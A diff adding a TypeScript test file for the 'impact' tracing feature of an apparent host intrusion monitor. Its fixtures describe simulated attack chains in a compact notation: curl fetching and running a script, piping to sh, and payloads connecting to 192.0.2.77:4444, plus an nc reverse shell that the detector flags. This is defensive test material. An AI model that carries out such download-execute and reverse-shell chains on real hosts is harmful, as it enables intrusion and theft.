@@ -1,0 +1,138 @@
+import { describe, expect, test } from "vitest";
+import { impactOf } from "../../../src/core/origin/impact.ts";
+import { originOf } from "../../../src/core/origin/origin.ts";
+import type { ImpactTree, Subject } from "../../../src/core/query/model.ts";
+import { graphFromText, type Told } from "../fixture.ts";
+
+function subjectOf(told: Told, what: string): Subject {
+  if (/:\d+$/.test(what)) return { kind: "connection", id: told.connection(what) };
+  if (what.startsWith("/")) return { kind: "file", id: told.file(what) };
+  return { kind: "process", id: told.process(what) };
+}
+
+function of(told: Told, what: string, whole = false): ImpactTree {
+  return impactOf(told.monitor, subjectOf(told, what), { whole });
+}
+
+/** One step a line, indented by depth: "  link: title". */
+function draw(impact: ImpactTree): readonly string[] {
+  return impact.steps.map((step) => `${"  ".repeat(step.depth)}${step.link}: ${step.title}`);
+}
+
+const ATTACK = `sshd listens :22; sshd:22 <- 203.0.113.9:51022; sshd >> sshd#session > bash; bash > curl(-s http://x/i.sh);
+  curl -> 198.51.100.7:80; curl writes /tmp/.x; bash > sh(/tmp/.x); sh reads /tmp/.x; sh writes /dev/shm/k; sh > /dev/shm/k;
+  k -> 192.0.2.77:4444; k writes /tmp/loot; cron > sh#job(-c job); sh#job writes /var/log/job`;
+
+describe("the impact", () => {
+  test("of a login is what was typed, what that wrote, and what ran it", () => {
+    const impact = of(graphFromText(ATTACK), "203.0.113.9:51022");
+    expect(draw(impact)).toEqual([
+      "boundary: tcp 203.0.113.9:51022 -> 10.0.0.4:22",
+      "  accepted: 100 sshd",
+      "    spawned: 101 sshd",
+      "      spawned: 102 bash",
+      "        spawned: 103 curl -s http://x/i.sh",
+      expect.stringMatching(/^ {10}connected: tcp .* -> 198.51.100.7:80$/),
+      "          executed: 104 sh /tmp/.x",
+      "            executed: 105 /dev/shm/k",
+      expect.stringMatching(/^ {14}connected: tcp .* -> 192.0.2.77:4444$/),
+      "              wrote: /tmp/loot",
+    ]);
+    expect(impact.summary).toBe(
+      "Led to 6 processes, 2 connections out (198.51.100.7:80, 192.0.2.77:4444), 2 written files that were run (/tmp/.x, /dev/shm/k) and 1 other written file (/tmp/loot)",
+    );
+    expect([impact.observedLinks, impact.gaps]).toEqual([impact.links, []]);
+  });
+
+  test("is later than its cause at every step, and the origin of every step leads back", () => {
+    const told = graphFromText(ATTACK);
+    const impact = of(told, "bash");
+    for (const step of impact.steps) {
+      const cause = impact.steps[step.cause];
+      if (cause !== undefined) expect(cause.atNs).toBeLessThanOrEqual(step.atNs);
+      const back = originOf(told.monitor, step.subject).steps.map(({ subject }) => subject);
+      expect(back, step.title).toContainEqual(subjectOf(told, "bash"));
+    }
+  });
+
+  test("of a file is who ran it and who copied it", () => {
+    const told = graphFromText(
+      "bash > vi; vi writes /tmp/a; bash > cp; cp reads /tmp/a; cp writes /tmp/b; bash > /tmp/b; b -> 9.9.9.9:1",
+    );
+    expect(draw(of(told, "/tmp/a"))).toEqual([
+      "boundary: /tmp/a",
+      "  read: 102 cp",
+      "    executed: 103 /tmp/b",
+      expect.stringMatching(/connected: tcp .* -> 9.9.9.9:1$/),
+    ]);
+  });
+
+  test("of a request is what the server did for it, not what it did for others", () => {
+    const told = graphFromText(
+      "nginx listens :80; nginx:80 <- 8.8.4.4:999; nginx > sh(-c other); +5s; nginx:80 <- 203.0.113.9:1234; nginx > sh#2(-c curl) > curl; curl writes /tmp/x",
+    );
+    const lines = draw(of(told, "203.0.113.9:1234")).join("\n");
+    expect(lines).toContain("sh -c curl");
+    expect(lines).toContain("wrote: /tmp/x");
+    expect(lines).not.toContain("other");
+  });
+
+  test("of a pipe writer is the shell that obeys it, and what a filter passes on", () => {
+    const told = graphFromText(
+      "bash > curl | sh; sh -> 192.0.2.77:4444; bash > wget | tar; tar writes /opt/t; tar > gzip; bash > /opt/t",
+    );
+    expect(draw(of(told, "curl"))).toEqual([
+      "boundary: 101 curl",
+      "  piped: 102 sh",
+      expect.stringMatching(/^ {4}connected: tcp .* -> 192.0.2.77:4444$/),
+    ]);
+    const lines = draw(of(told, "wget")).join("\n");
+    expect(lines).toContain("executed: 106 /opt/t");
+    expect(lines).not.toContain("gzip");
+  });
+
+  test("of a client on this host goes through the server it asked", () => {
+    const told = graphFromText(
+      "bash > client; client ~> server; server > worker; +60s; server > later; client ~> idle",
+    );
+    const lines = draw(of(told, "client"));
+    expect(lines).toEqual([
+      "boundary: 101 client",
+      "  connected: unix /run/server.sock",
+      "    accepted: 102 server",
+      "      spawned: 103 worker",
+    ]);
+  });
+
+  test("of something with many effects tells the most telling and how many are left", () => {
+    const told = graphFromText("bash listens :1");
+    for (let i = 0; i < 60; i++) told.go(`bash > ls#${i}; ls#${i} exits`);
+    told.go("bash > curl; curl writes /tmp/.x; bash > /tmp/.x; .x -> 192.0.2.77:4444");
+    const short = of(told, "bash");
+    expect(draw(short).join("\n")).toContain("192.0.2.77:4444");
+    expect(short.steps.length).toBeLessThan(45);
+    expect(short.steps[0]?.left).toBeGreaterThan(20);
+    expect(short.summary).toMatch(/^Led to at least /);
+    const whole = of(told, "bash", true);
+    expect(whole.steps.filter((step) => step.title.endsWith("ls"))).toHaveLength(60);
+    expect(whole.steps[0]?.left).toBeUndefined();
+  });
+
+  test("of a finding is what followed it", () => {
+    const told = graphFromText("bash > nc; nc > before; nc -> 192.0.2.77:4444; nc > sh @ 192.0.2.77:4444; sh > id");
+    const [finding] = told.monitor.detector.findings;
+    if (finding === undefined) throw new Error("nothing was found");
+    const impact = impactOf(told.monitor, { kind: "finding", id: finding.id });
+    expect(impact.title).toBe("Reverse shell: 103 sh");
+    expect(draw(impact).join("\n")).toContain("spawned: 104 id");
+    expect(draw(impact).join("\n")).not.toContain("before");
+  });
+
+  test("of nothing, and of what is forgotten, says so", () => {
+    expect(of(graphFromText("bash > ls"), "ls").summary).toBe("Nothing was seen to come of it.");
+    expect(impactOf(graphFromText("bash > ls").monitor, { kind: "process", id: 12345 })).toMatchObject({
+      summary: "This is no longer remembered.",
+      gaps: ["earlier history forgotten"],
+    });
+  });
+});
